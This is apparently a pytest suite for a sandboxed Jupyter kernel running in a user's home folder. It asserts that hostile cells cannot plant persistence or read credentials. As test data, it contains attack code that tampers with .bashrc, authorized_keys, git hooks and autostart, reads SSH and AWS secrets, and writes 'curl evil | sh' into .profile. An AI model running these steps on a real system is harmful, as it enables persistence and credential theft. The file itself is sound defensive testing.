"""A kernel whose notebook folder is the user's home: hostile cells must not
plant code that runs outside the sandbox later, nor read credentials, through
that read-write folder. Judged by the host's files afterwards, not by the
kernel's error messages."""

from __future__ import annotations

import json
import os
import pathlib

import pytest

KERNEL_UID = 1234  # the folder's owner, as when root runs CI; the kernel runs as it


def _own(path: pathlib.Path) -> None:
    if os.getuid() == 0:
        for p in [path, *path.rglob("*")]:
            os.lchown(p, KERNEL_UID, KERNEL_UID)


def _write(root: pathlib.Path, rel: str, text: str) -> None:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)


def _snapshot(root: pathlib.Path) -> dict[str, tuple]:
    """Every path under root: (kind, bytes or link target, mode)."""
    out = {}
    for p in sorted(root.rglob("*")):
        st = p.lstat()
        rel = str(p.relative_to(root))
        if p.is_symlink():
            out[rel] = ("link", os.readlink(p), None)
        elif p.is_dir():
            out[rel] = ("dir", None, st.st_mode & 0o7777)
        else:
            out[rel] = ("file", p.read_bytes(), st.st_mode & 0o7777)
    return out


SECRETS = {
    ".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY----- very secret\n",
    ".aws/credentials": "[default]\naws_secret_access_key = AWS-SECRET\n",
    ".netrc": "machine example.com login me password NETRC-SECRET\n",
    # another kernel's connection file and the server's token
    ".local/share/jupyter/runtime/kernel-other.json": '{"key": "OTHER-KERNEL-KEY"}',
    ".local/share/jupyter/runtime/jpserver-1.json": '{"token": "SERVER-TOKEN"}',
}


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A home-like folder that is also the server user's HOME (so jupyter_core's
    config/data/runtime folders land in it)."""
    h = tmp_path / "home"
    files = {
        ".bashrc": "# the user's bashrc\n",
        ".ssh/authorized_keys": "ssh-ed25519 AAAA user@laptop\n",
        ".jupyter/jupyter_server_config.json": "{}\n",
        ".local/share/jupyter/kernels/x/kernel.json": json.dumps({"argv": ["python3"], "display_name": "x"}),
        ".git/config": "[core]\n\tbare = false\n",
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
        "data.csv": "a,b\n1,2\n",
        "projects/secret/plan.txt": "the plan\n",
        "projects/other/notes.txt": "notes\n",
        **SECRETS,
    }
    for rel, text in files.items():
        _write(h, rel, text)
    _own(h)
    monkeypatch.setenv("HOME", str(h))
    for var in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "JUPYTER_PATH",
                "JUPYTER_CONFIG_PATH", "IPYTHONDIR", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.delenv(var, raising=False)
    return h


ATTACKS = r'''
import errno, json, os, shutil
res = {}
def t(name, fn):
    try:
        fn()
        res[name] = "DONE"
    except OSError as exc:
        res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
def write(p, mode="w", text="evil\n"):
    with open(p, mode) as f:
        f.write(text)
targets = [".bashrc", ".ssh/authorized_keys", ".git/config", ".jupyter/jupyter_server_config.json",
           ".local/share/jupyter/kernels/x/kernel.json", ".aws/credentials", ".profile"]
for p in targets:
    t(f"append {p}", lambda: write(p, "a"))
    t(f"truncate {p}", lambda: os.truncate(p, 0))
    t(f"overwrite {p}", lambda: write(p, "w"))
    t(f"chmod {p}", lambda: os.chmod(p, 0o777))
    t(f"hardlink {p}", lambda: os.link(p, "hl-" + p.replace("/", "_")))
    t(f"rename {p}", lambda: os.rename(p, p + ".moved"))
    t(f"unlink {p}", lambda: os.unlink(p))
# create what is missing, or what belongs inside protected folders
for p in [".bash_login", ".zshrc", ".envrc", ".ssh/authorized_keys2", ".git/hooks/pre-commit",
          ".jupyter/jupyter_server_config.py", ".local/bin/ls", ".ipython/profile_default/startup/0.py"]:
    t(f"create {p}", lambda: write(p, "x"))
t("mkdir .config/autostart", lambda: os.makedirs(".config/autostart"))
t("create .config/autostart/evil.desktop", lambda: write(".config/autostart/evil.desktop"))
t("mkdir .local/share/jupyter/kernels/evil", lambda: os.makedirs(".local/share/jupyter/kernels/evil"))
t("symlink over .profile", lambda: os.symlink("/tmp/evil", ".profile"))
t("rmdir .config", lambda: os.rmdir(".config"))
# rename a protected path's parent away and recreate it
t("rename .git", lambda: os.rename(".git", ".git-old"))
t("mkdir in .git/hooks", lambda: os.mkdir(".git/hooks/evil"))
t("rename .local", lambda: os.rename(".local", ".local-old"))
t("rename .ssh", lambda: os.rename(".ssh", ".ssh-old"))
t("rmtree .ssh", lambda: shutil.rmtree(".ssh"))
# a symlink to a protected file does not make it writable
t("symlink to .bashrc", lambda: os.symlink(".bashrc", "innocent"))
t("write via symlink", lambda: write("innocent", "a"))
# reading credentials and the server's runtime folder
seen = {}
for p in %(secrets)r:
    try:
        seen[p] = open(p).read()
    except OSError as exc:
        seen[p] = errno.errorcode.get(exc.errno)
seen["ssh listing"] = sorted(os.listdir(".ssh"))
seen["runtime listing"] = sorted(os.listdir(".local/share/jupyter/runtime"))
print(json.dumps({"res": res, "seen": seen}))
'''


def test_hostile_cell_cannot_touch_protected_home_files(home, start_kernel):
    before = _snapshot(home)
    k = start_kernel(policy={}, cwd=str(home))
    # While the kernel runs, missing protected paths are held by placeholders
    # owned like the folder.
    provisioner = k.km.provisioner
    held = {pathlib.Path(p.path).relative_to(home).as_posix() for p in provisioner._placeholders}
    assert {".profile", ".config", ".bash_login", ".zshrc", ".envrc"} <= held
    assert (home / ".profile").is_file() and (home / ".config").is_dir()
    if os.getuid() == 0:
        assert (home / ".profile").stat().st_uid == KERNEL_UID
    assert "placeholder" in (home / ".bash_login").read_text()  # it says what it is

    out = k.probe(ATTACKS % {"secrets": list(SECRETS)})
    res, seen = out["res"], out["seen"]
    done = sorted(name for name, r in res.items() if r == "DONE" and name != "symlink to .bashrc")
    assert done == [], f"the kernel managed: {done}"
    for p in SECRETS:
        assert seen[p] in ("", "ENOENT"), f"the kernel read {p}: {seen[p]!r}"
    assert seen["ssh listing"] == []
    assert seen["runtime listing"] == []  # no connection files, no server token
    k.shutdown()

    after = _snapshot(home)
    # Judge by the host: every file that existed is byte for byte the same, and
    # nothing new remains but the kernel's innocent symlink (and the audit
    # trail the server itself keeps in its Jupyter data folder).
    changed = sorted(p for p in before if before[p] != after.get(p))
    assert changed == []
    new = sorted(p for p in set(after) - set(before) if not p.startswith(".local/share/jupyter/awf-kernel"))
    assert new == ["innocent"], new
    assert not (home / ".profile").exists() and not (home / ".config").exists()
    assert provisioner._protect_dir is None


def test_missing_folders_cannot_be_created(tmp_path, start_kernel, monkeypatch):
    """A sparse home: no .ssh, .config, .profile, .git. The kernel cannot
    create them, and the host is as before once the kernel stops."""
    h = tmp_path / "sparse"
    _write(h, "notes.txt", "hello\n")
    _own(h)
    monkeypatch.setenv("HOME", str(h))
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path / "runtime"))  # the server's own
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "data"))        # files go elsewhere
    before = _snapshot(h)
    k = start_kernel(policy={}, cwd=str(h))
    out = k.probe(r'''
        import errno, json, os
        res = {}
        def t(name, fn):
            try:
                fn(); res[name] = "DONE"
            except OSError as exc:
                res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
        t("mkdir .ssh", lambda: os.mkdir(".ssh"))
        t("authorized_keys", lambda: open(".ssh/authorized_keys", "w").write("ssh-ed25519 AAAA evil"))
        t("mkdir .config/systemd/user", lambda: os.makedirs(".config/systemd/user"))
        t("profile", lambda: open(".profile", "a").write("curl evil | sh"))
        t("git init", lambda: os.makedirs(".git/hooks"))
        t("git config", lambda: open(".git/config", "w").write("[core]\n\tfsmonitor = evil"))
        t("rename placeholder", lambda: os.rename(".ssh", "x"))
        t("rmdir placeholder", lambda: os.rmdir(".ssh"))
        t("ordinary file", lambda: open("made.txt", "w").write("ok"))
        print(json.dumps(res))
    ''')
    assert out.pop("ordinary file") == "DONE"
    assert [n for n, r in out.items() if r == "DONE"] == []
    assert not any((h / ".ssh").iterdir())  # still the empty placeholder
    k.shutdown()
    after = _snapshot(h)
    assert set(after) == set(before) | {"made.txt"}
    assert all(after[p] == before[p] for p in before)


def test_ordinary_work_in_the_folder_still_works(tmp_path, start_kernel, monkeypatch):
    """A project folder (a git repository, a notebook): files and subfolders
    can be created, written and deleted; git's own data is writable; only the
    hooks, the config and the notebook file are not; `.git` cannot be renamed
    away to escape them."""
    proj = tmp_path / "proj"
    nb = proj / "analysis.ipynb"
    for rel, text in {".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n",
                      ".git/hooks/pre-commit.sample": "#!/bin/sh\n", "src/mod.py": "x = 1\n",
                      "analysis.ipynb": json.dumps({"cells": [], "metadata": {}, "nbformat": 4,
                                                    "nbformat_minor": 5})}.items():
        _write(proj, rel, text)
    _own(proj)
    monkeypatch.setenv("HOME", str(tmp_path / "elsewhere"))
    before = _snapshot(proj)
    k = start_kernel(policy={}, cwd=str(proj), env={"LANG": "C.UTF-8", "JPY_SESSION_NAME": str(nb)})
    out = k.probe(r'''
        import errno, json, os, shutil
        res = {}
        def t(name, fn):
            try:
                fn(); res[name] = "DONE"
            except OSError as exc:
                res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
        t("new file", lambda: open("results.csv", "w").write("1,2\n"))
        t("append", lambda: open("results.csv", "a").write("3,4\n"))
        t("subfolders", lambda: os.makedirs("out/figures/2024"))
        t("file in subfolder", lambda: open("out/figures/2024/fig.svg", "w").write("<svg/>"))
        t("edit source", lambda: open("src/mod.py", "a").write("y = 2\n"))
        t("rename file", lambda: os.rename("results.csv", "final.csv"))
        t("delete tree", lambda: shutil.rmtree("out"))
        t("git data", lambda: open(".git/description", "w").write("mine"))
        t("git hook", lambda: open(".git/hooks/pre-commit", "w").write("evil"))
        t("git config", lambda: open(".git/config", "a").write("[core]\n\tfsmonitor = evil\n"))
        t("rename .git", lambda: os.rename(".git", "g"))
        t("rename hooks", lambda: os.rename(".git/hooks", ".git/h"))
        t("notebook", lambda: open("analysis.ipynb", "a").write(" "))
        print(json.dumps(res))
    ''')
    k.shutdown()
    ok = ["new file", "append", "subfolders", "file in subfolder", "edit source", "rename file",
          "delete tree", "git data"]
    assert {n: out[n] for n in ok} == {n: "DONE" for n in ok}
    assert [n for n in out if n not in ok and out[n] == "DONE"] == []
    after = _snapshot(proj)
    assert (proj / "final.csv").read_text() == "1,2\n3,4\n" and not (proj / "out").exists()
    assert (proj / "src/mod.py").read_text() == "x = 1\ny = 2\n"
    for rel in (".git/config", ".git/hooks/pre-commit.sample", "analysis.ipynb", ".git/HEAD"):
        assert after[rel] == before[rel]
    assert not (proj / ".git/hooks/pre-commit").exists()
    assert set(after) == set(before) | {"final.csv", ".git/description"}  # placeholders (.envrc) gone


def test_admin_deny_write_extends_the_list(home, start_kernel):
    k = start_kernel(policy={}, cwd=str(home), settings={"deny_write": ["~/projects/secret/"]})
    out = k.probe(r'''
        import errno, json, os
        res = {}
        def t(name, fn):
            try:
                fn(); res[name] = "DONE"
            except OSError as exc:
                res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
        t("edit", lambda: open("projects/secret/plan.txt", "a").write("evil"))
        t("create", lambda: open("projects/secret/new.txt", "w").write("evil"))
        t("rename parent", lambda: os.rename("projects", "p2"))
        t("other project", lambda: open("projects/other/notes.txt", "a").write("more\n"))
        print(json.dumps(res))
    ''')
    k.shutdown()
    assert out == {"edit": "EROFS", "create": "EROFS", "rename parent": "EBUSY", "other project": "DONE"}
    assert (home / "projects/secret/plan.txt").read_text() == "the plan\n"
    assert sorted(p.name for p in (home / "projects/secret").iterdir()) == ["plan.txt"]
    assert (home / "projects/other/notes.txt").read_text() == "notes\n" + "more\n"


def test_symlinked_dotfile_refuses_to_start(home, start_kernel):
    """A dotfile that is a symlink cannot carry a mount: the kernel could
    replace the link with its own file. No kernel rather than a false promise."""
    (home / "dotfiles").mkdir()
    (home / ".bashrc").rename(home / "dotfiles/bashrc")
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    _own(home)
    with pytest.raises(Exception, match=r"\.bashrc is a symlink"):
        start_kernel(policy={}, cwd=str(home))
    # the failed start left no placeholder behind
    assert not (home / ".profile").exists() and not (home / ".config").exists()


def test_two_kernels_in_one_folder_share_placeholders(home, start_kernel):
    """Unlinking a placeholder on the host detaches the mount over it in every
    other kernel: the first kernel to stop must leave the placeholders the
    second one still relies on, and the second removes them."""
    before = _snapshot(home)
    first = start_kernel(policy={}, cwd=str(home))
    second = start_kernel(policy={}, cwd=str(home))
    first.shutdown()
    assert (home / ".profile").is_file() and (home / ".config").is_dir()
    out = second.probe(r'''
        import errno, json, os
        res = {}
        def t(name, fn):
            try:
                fn(); res[name] = "DONE"
            except OSError as exc:
                res[name] = errno.errorcode.get(exc.errno, str(exc.errno))
        t("profile", lambda: open(".profile", "a").write("curl evil | sh"))
        t("autostart", lambda: os.makedirs(".config/autostart"))
        t("bash_login", lambda: open(".bash_login", "w").write("evil"))
        print(json.dumps(res))
    ''')
    assert [n for n, r in out.items() if r == "DONE"] == []
    second.shutdown()
    after = _snapshot(home)
    assert sorted(p for p in set(after) - set(before) if not p.startswith(".local/share/jupyter/awf-kernel")) == []
    assert all(after[p] == before[p] for p in before)


def test_a_protected_file_replaced_on_the_host_stops_the_kernel(home, start_kernel):
    """An editor that saves ~/.bashrc by rename takes the kernel's read-only
    mount over it away with the old file. The kernel must not get to write
    the new one: it is stopped and reported dead at once."""
    import time

    k = start_kernel(policy={}, cwd=str(home))
    assert k.km.is_alive()
    new = home / ".bashrc.new"
    new.write_text("# edited by the user\n")
    _own(new)
    os.replace(new, home / ".bashrc")  # what vim's and many editors' save does
    deadline = time.monotonic() + 10
    while k.km.is_alive() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not k.km.is_alive()
    assert (home / ".bashrc").read_text() == "# edited by the user\n"
